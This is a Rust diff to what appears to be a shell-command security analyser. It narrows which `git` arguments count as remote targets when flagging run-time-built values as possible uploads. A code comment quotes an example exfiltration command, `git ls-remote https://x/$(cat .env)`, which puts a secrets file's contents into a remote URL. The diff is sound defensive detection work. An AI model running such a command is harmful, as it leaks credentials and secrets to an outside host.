@@ -284,11 +284,23 @@ pub(super) fn read(words: &[ShellArg], out: &mut Vec<Finding>) {
     let positionals: Vec<&ShellArg> =
         rest.iter().filter(|w| !(w.is_known() && w.text.starts_with('-'))).collect();
     let first = positionals.first().map(|p| p.text.as_str());
-    // A command that talks to a remote sends what its words say: a remote's URL or name,
-    // a refspec or an option built at run time can carry data out
-    // (`git ls-remote https://x/$(cat .env)`), as a URL built at run time does for curl.
+    // A command that talks to a remote contacts what its words name: a remote's URL or
+    // name built at run time can carry data out in its host or path (`git ls-remote
+    // https://x/$(cat .env)`), as a URL built at run time does for curl. A refspec goes
+    // to the remote named (`git pull origin "$(git branch --show-current)"`).
+    let remote_words: Vec<&ShellArg> = match sub {
+        "archive" => rest.iter().filter(|w| w.raw.starts_with("--remote")).collect(),
+        // `remote add NAME URL`, `remote set-url NAME URL`, `submodule add URL PATH`.
+        "remote" | "submodule" => positionals.clone(),
+        _ => positionals
+            .first()
+            .copied()
+            .into_iter()
+            .chain(rest.iter().filter(|w| w.raw.contains("://")))
+            .collect(),
+    };
     if REMOTE_COMMANDS.contains(&sub)
-        && let Some(word) = rest.iter().find(|w| !w.is_known())
+        && let Some(word) = remote_words.into_iter().find(|w| w.expansion)
     {
         out.push(Finding::Uploads(format!(
             "`git {sub}` contacts a remote with `{}`, built at run time",
